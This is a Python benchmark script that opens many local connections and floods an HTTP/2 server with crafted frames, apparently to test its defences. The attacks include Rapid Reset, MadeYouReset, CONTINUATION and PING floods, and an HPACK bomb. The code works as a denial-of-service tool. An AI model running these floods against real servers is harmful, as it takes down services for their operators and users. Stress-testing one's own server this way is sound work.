# SPDX-License-Identifier: Apache-2.0
"""Floods of HTTP/2, for bench/attacks.py.

    bench/floods.py PORT NAME CONNECTIONS      attacks until it is killed

Each connection sends what its attack says as fast as it is taken; another is opened whenever one is
ended. With the lowest priority: it shares a core with the good client."""
import itertools
import os
import selectors
import socket
import struct
import sys

DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
BURST = 64  # streams or frames in one send


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def block(path=b"/1k", method=b"\x82"):
    return method + b"\x86\x04" + bytes([len(path)]) + path + b"\x01\x01a"  # nothing of it goes into the table


def hello(settings=b""):
    return PREFACE + frame(SETTINGS, payload=settings)


# ---- what an attacker says on one connection: pieces, without end ----

def streams():
    """Bursts of numbers of streams."""
    numbers = itertools.count(1, 2)
    while True:
        yield list(itertools.islice(numbers, BURST))


def rapid_reset():
    yield hello()
    for burst in streams():
        yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, n, block()) + frame(RST, 0, n, b"\0\0\0\x08")
                       for n in burst)


def made_you_reset():
    """The proxy is brought to take requests back: a window that opens by nothing is an error of the stream."""
    yield hello()
    for burst in streams():
        yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, n, block()) + frame(WINDOW, 0, n, bytes(4))
                       for n in burst)


def endless(first, again):
    def attack():
        yield hello() + first
        while True:
            yield again
    return attack


def hpack_bomb():
    """A field of 4,000 bytes in the table, named 4,000 times in each block."""
    yield hello() + frame(HEADERS, END_STREAM | END_HEADERS, 1, block() + b"\x40\x01a\x7f\xa1\x1e" + b"x" * 4000)
    for n in itertools.count(3, 2):
        yield frame(HEADERS, END_STREAM | END_HEADERS, n, block() + b"\xbe" * 4000)


def window_stall():
    """A hundred answers, none of which may be sent."""
    yield hello(struct.pack(">HI", 4, 0)) + b"".join(
        frame(HEADERS, END_STREAM | END_HEADERS, n, block(b"/64k")) for n in range(1, 200, 2))


def downloads():
    """A hundred answers of 10 MB, for which all windows are open."""
    large = struct.pack(">I", (1 << 31) - 1 - 65535)
    yield hello(struct.pack(">HI", 4, (1 << 31) - 1)) + frame(WINDOW, 0, 0, large) + b"".join(
        frame(HEADERS, END_STREAM | END_HEADERS, n, block(b"/10m")) for n in range(1, 200, 2))


def crowd():
    """No hostility: requests, as many at a time as anybody may have."""
    yield hello(struct.pack(">HI", 4, 1 << 20)) + frame(WINDOW, 0, 0, struct.pack(">I", 1 << 30))
    for burst in streams():
        yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, n, block()) for n in burst)


UPLOAD = frame(HEADERS, END_HEADERS, 1, block(method=b"\x83"))
ATTACKS = {  # what the table says: (what the attacker says, weir's counter or None)
    "a crowd": (crowd, None),
    "a crowd of downloads": (downloads, None),
    "rapid reset": (rapid_reset, "resets"),
    "MadeYouReset": (made_you_reset, "made_resets"),
    "CONTINUATION flood": (endless(frame(HEADERS, END_STREAM, 1, block()),
                                   frame(CONTINUATION, 0, 1, b"\0\1a\1b" * 3) * BURST), "continuations"),
    "SETTINGS flood": (endless(b"", frame(SETTINGS, payload=struct.pack(">HI", 4, 70000)) * BURST), "settings"),
    "PING flood": (endless(b"", frame(PING, payload=b"12345678") * BURST), "pings"),
    "PRIORITY flood": (endless(b"", frame(PRIORITY, 0, 5, b"\0\0\0\3\1") * BURST), "priorities"),
    "empty DATA": (endless(UPLOAD, frame(DATA, 0, 1) * BURST), "empty"),
    "WINDOW_UPDATE flood": (endless(UPLOAD, frame(WINDOW, 0, 1, b"\0\0\0\1") * BURST), "windows"),
    "HPACK bomb": (hpack_bomb, "heads"),
    "window stall": (window_stall, None),
    "never reads": (downloads, None),
}
DEAF = ("never reads",)


# ---- the attacker ----

class Attacker:
    def __init__(self, selector, port, name):
        self.pieces, self.deaf = ATTACKS[name][0](), name in DEAF
        self.rest = b""
        self.sock = socket.socket()
        self.sock.setblocking(False)
        self.sock.connect_ex(("127.0.0.1", port))
        self.selector = selector
        selector.register(self.sock, selectors.EVENT_WRITE | (0 if self.deaf else selectors.EVENT_READ), self)

    def end(self):
        self.selector.unregister(self.sock)
        self.sock.close()

    def go_on(self, events):
        """False: it is over."""
        try:
            if events & selectors.EVENT_READ and not self.sock.recv(65536):
                return False
            if events & selectors.EVENT_WRITE:
                self.rest = self.rest or next(self.pieces, b"")
                if not self.rest:
                    self.selector.modify(self.sock, 0 if self.deaf else selectors.EVENT_READ, self)
                    return True
                self.rest = self.rest[self.sock.send(self.rest):]
        except BlockingIOError:
            pass
        except OSError:
            return False
        return True


def attack(name, port, connections):
    os.nice(19)
    with selectors.EpollSelector() as selector:
        for _ in range(connections):
            Attacker(selector, port, name)
        while True:
            for key, events in selector.select(1):
                if not key.data.go_on(events):
                    key.data.end()
                    Attacker(selector, port, name)


if __name__ == "__main__":
    attack(sys.argv[2], int(sys.argv[1]), int(sys.argv[3]))
